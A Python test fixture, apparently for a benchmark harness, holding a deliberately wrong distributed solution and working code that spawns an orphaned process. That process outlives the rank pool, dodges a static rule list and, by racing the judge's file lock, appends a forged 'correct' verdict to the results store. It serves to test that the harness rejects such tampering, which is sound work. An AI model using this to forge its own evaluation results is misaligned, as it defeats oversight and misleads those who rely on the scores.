# expect: reject
# Result-store forgery by an orphaned process that outlives the candidate's rank pool.
# Result stores are "last record wins" (store.latest_by): whoever appends last for a
# (task, sample hash, world size, backend, size) key decides what `mgbench score`, a re-run and the
# batch table/exit code see. Rank 0 starts a process OUTSIDE its own process tree
# (os.posix_spawnp of `sh -c '... &'`, so it is reparented away and no pool teardown kills it;
# posix_spawnp is not in the static rule list). That process takes the store's flock first, so the
# judge's append_jsonl queues behind it; once the judge is seen waiting (/proc/locks) it lets the
# judge write and queues right behind it, then appends a copy of the judge's record with
# status "correct". The solution itself is wrong (x * world_size). Should be rejected: a candidate
# must not be able to write the verdict of its own evaluation.
import hashlib
import os
import sys

import torch
import torch.distributed as dist

_ORPHAN = r'''
import fcntl, json, os, sys, time
results, myhash = sys.argv[1], sys.argv[2]
deadline = time.time() + 240
def find():
    try:
        data = open(results, "rb").read().splitlines()
    except FileNotFoundError:
        return None
    for line in reversed(data):
        try:
            r = json.loads(line)
        except ValueError:
            continue
        if r.get("sample_hash") == myhash and r.get("status") != "correct":
            return r
    return None
fd = os.open(results, os.O_RDWR | os.O_APPEND | os.O_CREAT, 0o644)
fcntl.flock(fd, fcntl.LOCK_EX)
ino = os.fstat(fd).st_ino
while time.time() < deadline:  # wait until the judge blocks in append_jsonl's flock
    with open("/proc/locks") as f:
        if any("->" in l and f":{ino} " in l for l in f):
            break
    time.sleep(0.0005)
rec = None
while time.time() < deadline and rec is None:
    fcntl.flock(fd, fcntl.LOCK_UN)
    time.sleep(0.0002)
    fcntl.flock(fd, fcntl.LOCK_EX)  # wakes when the judge's append closes its descriptor
    rec = find()
if rec is not None:
    rec.update(status="correct", correct=True, reason="", phase="done", trials_passed=rec.get("trials", 5),
               suspicious=[], speedup=1.7, speedups={"reference": 1.7})
    os.write(fd, (json.dumps(rec, sort_keys=True) + "\n").encode())
fcntl.flock(fd, fcntl.LOCK_UN)
os.close(fd)
'''


def _argv(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        return [a.decode() for a in f.read().split(b"\0") if a]


def _ppid(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _opt(argv, name):
    for i, a in enumerate(argv):
        if a == name and i + 1 < len(argv):
            return argv[i + 1]
    return None


def _launch():
    if dist.get_rank() != 0:
        return
    pid = os.getppid()
    for _ in range(4):
        argv = _argv(pid)
        if "eval" in argv and ("--results" in argv or "--solutions-dir" in argv):
            break
        pid = _ppid(pid)
    else:
        return
    folder = _opt(argv, "--solutions-dir")
    results = _opt(argv, "--results") or os.path.join(folder, "eval-results.jsonl")
    me = os.path.join(folder, os.path.basename(__file__)) if folder else _opt(argv, "--solution")
    with open(os.path.join(os.getcwd(), me)) as f:
        myhash = hashlib.sha256(f.read().encode()).hexdigest()
    cmd = 'nohup "$0" -c "$1" "$2" "$3" >/dev/null 2>&1 &'
    os.posix_spawnp(
        "sh", ["sh", "-c", cmd, sys.executable, _ORPHAN, os.path.join(os.getcwd(), results), myhash], os.environ
    )


_launch()


def solution(x):
    return x * dist.get_world_size()  # wrong: no communication at all
